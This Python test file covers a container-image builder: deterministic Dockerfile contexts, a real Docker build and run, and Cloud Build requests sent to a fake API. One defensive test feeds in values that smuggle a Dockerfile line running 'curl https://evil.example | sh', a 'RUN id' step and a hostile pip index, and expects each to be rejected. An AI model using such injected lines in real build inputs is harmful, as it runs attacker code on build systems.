"""Images for an ImageSpec: the generated Dockerfile, a real build on the local Docker engine, and the requests the
Cloud Build builder sends to Cloud Build, Artifact Registry and GCS.

The Docker test builds on a Debian base made locally (Docker Hub is unreachable here), pushes to a local
registry, runs a real payload through the image's runner and checks that a second ``ensure`` skips the build.
The Cloud Build tests use the real google-cloud-build / artifact-registry clients over their REST transport
against a small fake of the two APIs, and the real GCS client against fake-gcs-server.
"""

from __future__ import annotations

import hashlib
import io
import json
import os
import tarfile
import threading
import time
import uuid
from datetime import timedelta
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import cloudpickle
import pytest
from docker_fixture import proxy_files

import kinetic_prefect
from kinetic_prefect.shared import builders
from kinetic_prefect.shared.builders import (
    CloudBuildBuilder,
    DockerBuilder,
    ImageBuildError,
    PrebuiltImage,
    build_context,
    builder_from_settings,
    context_archive,
    image_name,
)
from kinetic_prefect.shared.image import RUNNER_MODULES, ImageSpec

PACKAGE_DIR = Path(kinetic_prefect.__file__).parent


def _tree(root: Path) -> dict[str, bytes]:
    return {p.relative_to(root).as_posix(): p.read_bytes() for p in sorted(root.rglob("*")) if p.is_file()}


# ------------------------------------------------------------------------------------------------ the Dockerfile


def test_build_context_is_deterministic(tmp_path):
    one = ImageSpec.create(["numpy>=1.26", "Keras >= 3.8"], family="gpu", python="3.11")
    two = ImageSpec.create(["keras>=3.8", "numpy>=1.26"], family="gpu", python="3.11")  # same inputs, other order
    assert one.tag == two.tag
    first = _tree(build_context(one, tmp_path / "a"))
    assert first == _tree(build_context(two, tmp_path / "b"))
    assert context_archive(one) == context_archive(two)
    # A different input changes the Dockerfile's requirements and the tag.
    other = ImageSpec.create(["numpy>=1.26"], family="gpu", python="3.11")
    assert _tree(build_context(other, tmp_path / "c"))["requirements.txt"] != first["requirements.txt"]


def test_build_context_cpu_contents(tmp_path):
    spec = ImageSpec.create(["tabulate==0.9.0"], python="3.11")
    files = _tree(build_context(spec, tmp_path))
    dockerfile = files["Dockerfile"].decode()
    lines = dockerfile.splitlines()
    assert "FROM python:3.11-slim" in lines
    assert "ENV PYTHONUNBUFFERED=1 \\" in lines and "    PIP_NO_CACHE_DIR=1 \\" in lines
    assert "WORKDIR /workspace" in lines
    assert lines[-1] == 'ENTRYPOINT ["python", "-u", "-m", "kinetic_prefect.pod.runner"]'
    assert "COPY extra/ /" not in dockerfile
    requirements = files["requirements.txt"].decode().splitlines()
    assert requirements == ["tabulate==0.9.0", f"cloudpickle=={cloudpickle.__version__}", builders.STORAGE_REQUIREMENT]
    # The runner's modules, byte for byte from this checkout; nothing else of the package.
    copied = {k.removeprefix("kinetic_prefect/"): v for k, v in files.items() if k.startswith("kinetic_prefect/")}
    assert copied == {f"{m}.py": (PACKAGE_DIR / f"{m}.py").read_bytes() for m in RUNNER_MODULES}
    assert set(files) == {"Dockerfile", "requirements.txt", *(f"kinetic_prefect/{m}" for m in copied)}


def test_the_frameworks_are_a_layer_of_their_own_below_the_rest(tmp_path):
    """A job's frameworks (JAX and its CUDA wheels here) are installed before, and apart from, its other requirements:
    a changed small requirement leaves the frameworks' layer as it was, in the builder's cache and on the nodes."""
    spec = ImageSpec.create(["keras>=3.8", "pillow"], family="gpu", python="3.11")
    files = _tree(build_context(spec, tmp_path / "a"))
    assert files["requirements-frameworks.txt"].decode().splitlines() == ["jax[cuda12]"]
    lines = files["Dockerfile"].decode().splitlines()
    frameworks = lines.index("RUN python -m pip install --requirement /opt/kinetic/requirements-frameworks.txt")
    rest = lines.index("RUN python -m pip install --requirement /opt/kinetic/requirements.txt")
    runner = lines.index("COPY kinetic_prefect/ /opt/kinetic/kinetic_prefect/")
    assert frameworks < rest < runner
    changed = ImageSpec.create(["keras>=3.8", "pillow", "tabulate"], family="gpu", python="3.11")
    other = _tree(build_context(changed, tmp_path / "b"))
    steps = [line for line in lines[: frameworks + 1] if not line.startswith("#")]  # Docker's cache skips comments
    changed_steps = [line for line in other["Dockerfile"].decode().splitlines() if not line.startswith("#")]
    assert changed_steps[: len(steps)] == steps, "the same steps up to the frameworks' layer"
    assert other["requirements-frameworks.txt"] == files["requirements-frameworks.txt"]
    assert "requirements-frameworks.txt" not in _tree(build_context(ImageSpec.create(["tabulate"]), tmp_path / "c"))


@pytest.mark.parametrize(
    ("family", "requirements", "expected_jax", "find_links"),
    [
        ("gpu", ["keras>=3.8"], "jax[cuda12]", False),
        ("gpu", ["jax==0.4.35"], "jax[cuda12]", False),
        ("gpu", ["torch"], None, False),  # no JAX user: no CUDA JAX wheels either
        ("tpu", ["keras-hub"], "jax[tpu]", True),
        ("tpu", ["numpy"], None, False),
        ("cpu", ["jax"], None, False),  # PyPI's jax is the CPU build already
    ],
)
def test_accelerator_requirements(tmp_path, family, requirements, expected_jax, find_links):
    spec = ImageSpec.create(requirements, family=family, python="3.11")
    lines = builders.requirements_lines(spec)
    extras = [line for line in lines if line.startswith("jax[")]
    assert extras == ([expected_jax] if expected_jax else [])
    assert (f"--find-links {builders.TPU_FIND_LINKS}" in lines) == find_links
    assert all(r in lines for r in spec.requirements)


def test_base_image_precedence_and_extra_files(tmp_path):
    plain = ImageSpec.create(python="3.12")
    assert "FROM python:3.12-slim\n" in builders.dockerfile(plain)
    assert "FROM my/base:1\n" in builders.dockerfile(plain, base_image="my/base:1")
    pinned = ImageSpec.create(python="3.12", base_image="nvcr.io/nvidia/jax:24.04")
    assert "FROM nvcr.io/nvidia/jax:24.04\n" in builders.dockerfile(pinned, base_image="my/base:1")

    files = _tree(build_context(plain, tmp_path, extra_files={"/etc/pip.conf": b"[global]\n"}))
    assert files["extra/etc/pip.conf"] == b"[global]\n"
    dockerfile = files["Dockerfile"].decode()
    assert dockerfile.index("COPY extra/ /") < dockerfile.index("pip install")  # in place before pip runs
    with pytest.raises(ValueError, match="inside the image"):
        build_context(plain, tmp_path / "x", extra_files={"../escape": b""})


def test_a_built_image_ends_as_its_non_root_user_and_refuses_injected_inputs():
    """Issue 45 finding 6: the last instruction that sets the user is a numeric, non-root USER, after every RUN (so
    Kubernetes' runAsNonRoot can check it); finding 9: what goes into the Dockerfile and requirements.txt is one
    image reference, one Python version, one requirement a line."""
    text = builders.dockerfile(ImageSpec.create(["numpy"], family="gpu"))
    lines = text.splitlines()
    [user] = [i for i, line in enumerate(lines) if line.startswith("USER ")]
    assert lines[user] == "USER 10001:10001" and not any(line.startswith("RUN") for line in lines[user:])
    assert "ENV HOME=/home/kinetic" in lines and "chown 10001:10001 /home/kinetic /workspace" in text
    with pytest.raises(ValueError, match="base_image=.* is not an image reference"):
        builders.dockerfile(ImageSpec(base_image="python:3.12-slim\nRUN curl https://evil.example | sh"))
    with pytest.raises(ValueError, match="python_version"):
        builders.dockerfile(ImageSpec(python="3.12-slim\nRUN id"))
    with pytest.raises(ValueError, match="pip option"):
        builders.requirements_lines(ImageSpec(requirements=("--index-url https://evil.example/simple",)))


def test_image_names_and_settings():
    spec = ImageSpec.create(python="3.11")
    assert image_name("us-docker.pkg.dev/p/r/", spec) == f"us-docker.pkg.dev/p/r/kinetic:{spec.tag}"
    assert PrebuiltImage("ghcr.io/me/img:1").ensure(spec) == "ghcr.io/me/img:1"
    assert isinstance(builder_from_settings("x", image="ghcr.io/me/img:1"), PrebuiltImage)
    assert isinstance(builder_from_settings("127.0.0.1:5000/kp"), DockerBuilder)
    assert isinstance(builder_from_settings("us-docker.pkg.dev/p/r"), DockerBuilder)  # no staging bucket
    cloud = builder_from_settings("us-central1-docker.pkg.dev/proj/repo", staging_bucket="gs://b/pre")
    assert isinstance(cloud, CloudBuildBuilder)
    assert (cloud.project, cloud.region, cloud.staging_bucket) == ("proj", "us-central1", "b")
    assert cloud.source_object(spec) == f"pre/kinetic-builds/{spec.tag}.tar.gz"
    assert builder_from_settings("us-docker.pkg.dev/proj/repo", staging_bucket="b").region == "global"
    nested = CloudBuildBuilder("p", "europe-west4", "europe-west4-docker.pkg.dev/p/repo/team", "b")
    assert nested.tag_resource(image_name(nested.repository, spec)) == (
        f"projects/p/locations/europe-west4/repositories/repo/packages/team%2Fkinetic/tags/{spec.tag}"
    )
    assert CloudBuildBuilder("p", "asia-east1", "repo", "b").repository == "asia-east1-docker.pkg.dev/p/repo"


# -------------------------------------------------------------------------------- (c) real Docker build and run


def _proxy_files() -> dict[str, bytes]:
    return proxy_files()


def _make_function():
    def describe(x, y):  # defined in a function so cloudpickle ships it by value (the image has no tests/)
        import sys

        import tabulate  # installed from the spec's requirements

        return {
            "sum": x + y,
            "tabulate": tabulate.__version__,
            "python": list(sys.version_info[:2]),
            "executable": sys.executable,
        }

    return describe


@pytest.mark.slow
@pytest.mark.timeout(1200)
def test_docker_build_push_run_then_skip(docker_engine, local_registry, python_base_image, tmp_path):
    from kinetic_prefect.caller.payload import build_call_payload
    from kinetic_prefect.storage import LocalStore

    # A repository of its own, so a registry that outlives this session never already holds the tag.
    repository = f"{local_registry}/kinetic-test-{uuid.uuid4().hex[:8]}"
    builder = DockerBuilder(repository, base_image=python_base_image, network="host", extra_files=_proxy_files())
    spec = ImageSpec.create(["tabulate==0.9.0"], family="cpu")
    image = image_name(repository, spec)
    assert not builder.exists(image)

    lines: list[str] = []
    started = time.monotonic()
    assert builder.ensure(spec, log=lines.append) == image
    first_build_s = time.monotonic() - started
    assert builder.builds == 1 and builder.exists(image)
    output = "\n".join(lines)
    assert f"FROM {python_base_image}" in output and "Successfully installed" in output  # streamed build log
    assert "digest: sha256:" in output  # streamed push log

    # The image's runner runs a real payload from a store mounted into the container, with no network.
    store_dir = tmp_path / "store"
    store = LocalStore(store_dir)
    payload = build_call_payload(_make_function(), (2,), {"y": 3}, None)
    store.put_bytes("runs/r1/payload.pkl", payload)
    docker_engine.run("image", "rm", image)  # run what the registry holds, not the local copy
    run = docker_engine.run(
        "run",
        "--rm",
        "--network",
        "none",
        "--user",
        f"{os.getuid()}:{os.getgid()}",
        "-e",
        "HOME=/tmp",
        "-v",
        f"{store_dir}:/store",
        "-e",
        "KINETIC_STORE=/store",
        "-e",
        "KINETIC_RUN_PREFIX=runs/r1",
        "-e",
        f"KINETIC_PAYLOAD_SHA256={hashlib.sha256(payload).hexdigest()}",
        image,
        check=False,
    )
    assert run.returncode == 0, run.stdout + run.stderr
    # As a pod runs it (the image's own user, never root): its HOME (caches) and the workspace are its own.
    own = docker_engine.run(
        "run", "--rm", "--network", "none", "--entrypoint", "sh", image,
        "-c", 'id -u && id -g && touch "$HOME/.probe" /workspace/.probe && echo "$HOME"',
        check=False,
    )  # fmt: skip
    assert own.returncode == 0 and own.stdout.split() == ["10001", "10001", "/home/kinetic"], own.stdout + own.stderr
    outcome = json.loads(store.get_bytes("runs/r1/outcome.json"))
    assert outcome["status"] == "completed", outcome
    assert cloudpickle.loads(store.get_bytes("runs/r1/result.pkl")) == {
        "sum": 5,
        "tabulate": "0.9.0",
        "python": [int(v) for v in spec.python.split(".")],
        "executable": f"{builders.VENV}/bin/python",
    }

    # Second ensure: the registry has the tag, so nothing is built (a fresh builder: no in-process memory).
    lines.clear()
    started = time.monotonic()
    again = DockerBuilder(repository, base_image=python_base_image, network="host", extra_files=_proxy_files())
    assert again.ensure(spec, log=lines.append) == image
    assert again.builds == 0 and builder.ensure(spec, log=lines.append) == image and builder.builds == 1
    assert all("not building" in line for line in lines)
    print(f"\nfirst build+push {first_build_s:.1f} s, second ensure {time.monotonic() - started:.2f} s")


@pytest.mark.slow
def test_docker_build_failure_reports_the_log_tail(docker_engine, local_registry, python_base_image, tmp_path):
    # Python minor version mismatch: the Dockerfile's guard stops the build before any install.
    spec = ImageSpec.create(python="3.9")
    builder = DockerBuilder(f"{local_registry}/kinetic-test-{uuid.uuid4().hex[:8]}", base_image=python_base_image)
    with pytest.raises(ImageBuildError, match=r"docker build.*failed") as failure:
        builder.ensure(spec, log=lambda line: None)
    assert "the caller has 3.9" in failure.value.log_tail
    assert builder.builds == 0


# --------------------------------------------------------------------- (d) Cloud Build and Artifact Registry


class FakeGoogleApis:
    """Cloud Build v1 and Artifact Registry v1 over REST, as much as the builder uses.

    A build runs when it is polled: the first GET reports WORKING and writes half of the log to the build's
    logs bucket (on the GCS emulator), the next reports the final status with the whole log; a successful build
    creates the tag in the fake registry, as Cloud Build pushing ``images`` does.
    """

    def __init__(self, storage_client, final_status: str = "SUCCESS"):
        self.storage_client = storage_client
        self.final_status = final_status
        self.tags: set[str] = set()
        self.requests: list[tuple[str, str, bytes]] = []
        self.builds: dict[str, dict] = {}
        self.log_lines = [
            "Step #0: Sending build context to Docker daemon",
            "Step #0: Step 1/10 : FROM python",
            "Step #0: Successfully built 0123abcd",
            "PUSH",
            "DONE"
            if final_status == "SUCCESS"
            else 'ERROR: build step 0 "gcr.io/cloud-builders/docker" failed: exit status 1',
        ]
        outer = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args):
                pass

            def _reply(self, status: int, body: dict) -> None:
                data = json.dumps(body).encode()
                self.send_response(status)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                self.wfile.write(data)

            def do_GET(self):
                outer.requests.append(("GET", self.path, b""))
                self._reply(*outer.get(self.path.split("?")[0]))

            def do_POST(self):
                body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
                outer.requests.append(("POST", self.path, body))
                self._reply(*outer.post(self.path.split("?")[0], body))

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.endpoint = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def _write_log(self, build: dict, lines: list[str]) -> None:
        bucket, _, prefix = build["logsBucket"].removeprefix("gs://").partition("/")
        blob = self.storage_client.bucket(bucket).blob(f"{prefix}/log-{build['id']}.txt")
        blob.upload_from_string("".join(line + "\n" for line in lines))

    def post(self, path: str, body: bytes):
        parent, _, rest = path.removeprefix("/v1/").rpartition("/")
        assert rest == "builds", path
        build = json.loads(body)
        build.update(
            id=f"build-{len(self.builds) + 1}",
            status=1,
            polls=0,  # 1 = QUEUED (enum-encoding=int)
            logUrl=f"https://console.cloud.google.com/cloud-build/builds/{len(self.builds) + 1}",
        )
        self.builds[build["id"]] = build
        return 200, {
            "name": f"operations/build/{parent}/{build['id']}",
            "metadata": {
                "@type": "type.googleapis.com/google.devtools.cloudbuild.v1.BuildOperationMetadata",
                "build": {k: v for k, v in build.items() if k != "polls"},
            },
        }

    def get(self, path: str):
        name = path.removeprefix("/v1/")
        if "/tags/" in name:
            if name in self.tags:
                return 200, {"name": name, "version": f"{name.split('/tags/')[0]}/versions/sha256:00"}
            return 404, {
                "error": {"code": 404, "message": f"Requested entity was not found: {name}", "status": "NOT_FOUND"}
            }
        build = self.builds[name.rsplit("/", 1)[1]]
        build["polls"] += 1
        if build["polls"] == 1:
            build["status"] = 2  # WORKING
            self._write_log(build, self.log_lines[:2])
        else:
            build["status"] = {"SUCCESS": 3, "FAILURE": 4}[self.final_status]
            self._write_log(build, self.log_lines)
            if self.final_status == "SUCCESS":
                for image in build["images"]:
                    self.tags.add(CloudBuildBuilder.tag_resource(image))
        return 200, {k: v for k, v in build.items() if k != "polls"}

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def google_apis(gcs_emulator, gcs_bucket, request):
    from google.auth.credentials import AnonymousCredentials
    from google.cloud import artifactregistry_v1, storage
    from google.cloud.devtools import cloudbuild_v1

    storage_client = storage.Client(project="test", credentials=AnonymousCredentials())
    fake = FakeGoogleApis(storage_client, final_status=getattr(request, "param", "SUCCESS"))
    options = {"api_endpoint": fake.endpoint}
    builder = CloudBuildBuilder(
        "proj",
        "us-central1",
        "us-central1-docker.pkg.dev/proj/images",
        gcs_bucket,
        timeout_seconds=1800,
        machine_type="e2-highcpu-8",
        poll_seconds=0.01,
        build_client=cloudbuild_v1.CloudBuildClient(
            transport="rest", credentials=AnonymousCredentials(), client_options=options
        ),
        registry_client=artifactregistry_v1.ArtifactRegistryClient(
            transport="rest", credentials=AnonymousCredentials(), client_options=options
        ),
        storage_client=storage_client,
    )
    yield fake, builder, storage_client
    fake.close()


def test_cloud_build_builds_a_missing_tag_then_skips(google_apis):
    from google.cloud.devtools import cloudbuild_v1

    fake, builder, storage_client = google_apis
    spec = ImageSpec.create(["keras>=3.8"], family="gpu", python="3.11")
    image = f"us-central1-docker.pkg.dev/proj/images/kinetic:{spec.tag}"
    tag_path = f"/v1/projects/proj/locations/us-central1/repositories/images/packages/kinetic/tags/{spec.tag}"

    lines: list[str] = []
    assert builder.ensure(spec, log=lines.append) == image
    assert builder.builds == 1

    # Artifact Registry was asked for the tag first, and said NotFound.
    assert fake.requests[0][:2] == ("GET", tag_path + "?%24alt=json%3Benum-encoding%3Dint")
    # The context was uploaded, byte for byte the reproducible archive, and contains the generated Dockerfile.
    source = f"kinetic-builds/{spec.tag}.tar.gz"
    blob = storage_client.bucket(builder.staging_bucket).get_blob(source)
    assert blob.download_as_bytes() == context_archive(spec)
    with tarfile.open(fileobj=io.BytesIO(blob.download_as_bytes())) as tar:
        assert tar.extractfile("Dockerfile").read() == builders.dockerfile(spec).encode()
        assert b"jax[cuda12]" in tar.extractfile("requirements.txt").read()

    # One CreateBuild, regional, with the build checked as the real cloudbuild_v1.Build.
    posts = [(path, body) for method, path, body in fake.requests if method == "POST"]
    assert len(posts) == 1 and posts[0][0].startswith("/v1/projects/proj/locations/us-central1/builds?")
    sent = cloudbuild_v1.Build.from_json(posts[0][1])
    assert [(s.name, list(s.args)) for s in sent.steps] == [
        ("gcr.io/cloud-builders/docker", ["build", "--tag", image, "."])
    ]
    assert list(sent.images) == [image]
    assert sent.source.storage_source.bucket == builder.staging_bucket
    assert sent.source.storage_source.object_ == source
    assert sent.source.storage_source.generation == blob.generation  # exactly the uploaded context
    assert sent.timeout == timedelta(seconds=1800)
    assert sent.options.machine_type == cloudbuild_v1.BuildOptions.MachineType.E2_HIGHCPU_8
    assert sent.options.logging == cloudbuild_v1.BuildOptions.LoggingMode.GCS_ONLY
    assert sent.logs_bucket == f"gs://{builder.staging_bucket}/kinetic-builds/logs"
    assert list(sent.tags) == ["kinetic-prefect", spec.tag]
    assert sent == builder.build_request(spec, source, source_generation=blob.generation)

    # The log was streamed line by line, each line once, in order.
    from kinetic_prefect.contract import PROGRESS_PREFIX

    assert any(line.startswith(PROGRESS_PREFIX) and "built by Cloud Build" in line for line in lines)
    lines = [line for line in lines if not line.startswith(PROGRESS_PREFIX)]  # the build's own log, then ours
    assert lines[-len(fake.log_lines) :] == fake.log_lines, (lines, fake.requests)
    assert "build-1" in next(line for line in lines if "Cloud Build" in line)

    # Second ensure: Artifact Registry finds the tag (the build pushed it), so nothing is uploaded or built.
    before = len(fake.requests)
    lines.clear()
    assert builder.ensure(spec, log=lines.append) == image
    assert builder.builds == 1
    assert [r[:2] for r in fake.requests[before:]] == [("GET", tag_path + "?%24alt=json%3Benum-encoding%3Dint")]
    assert "not building" in lines[0]


@pytest.mark.parametrize("google_apis", ["FAILURE"], indirect=True)
def test_cloud_build_failure_raises_with_the_log_tail(google_apis):
    fake, builder, _ = google_apis
    spec = ImageSpec.create(["does-not-exist-kinetic==0"], python="3.11")
    with pytest.raises(ImageBuildError, match="Cloud Build build-1 .* ended FAILURE") as failure:
        builder.ensure(spec, log=lambda line: None)
    assert failure.value.build_id == "build-1"
    assert failure.value.log_tail.splitlines()[-1] == fake.log_lines[-1]
    assert fake.log_lines[-1] in str(failure.value)
    assert builder.builds == 0 and not fake.tags


def test_artifact_registry_found_tag_skips_everything(google_apis):
    fake, builder, _ = google_apis
    spec = ImageSpec.create(python="3.11")
    image = image_name(builder.repository, spec)
    fake.tags.add(builder.tag_resource(image))
    assert builder.exists(image)
    assert builder.ensure(spec, log=lambda line: None) == image
    assert [method for method, _, _ in fake.requests] == ["GET", "GET"]  # exists() + ensure's lookup, no build
    assert builder.builds == 0
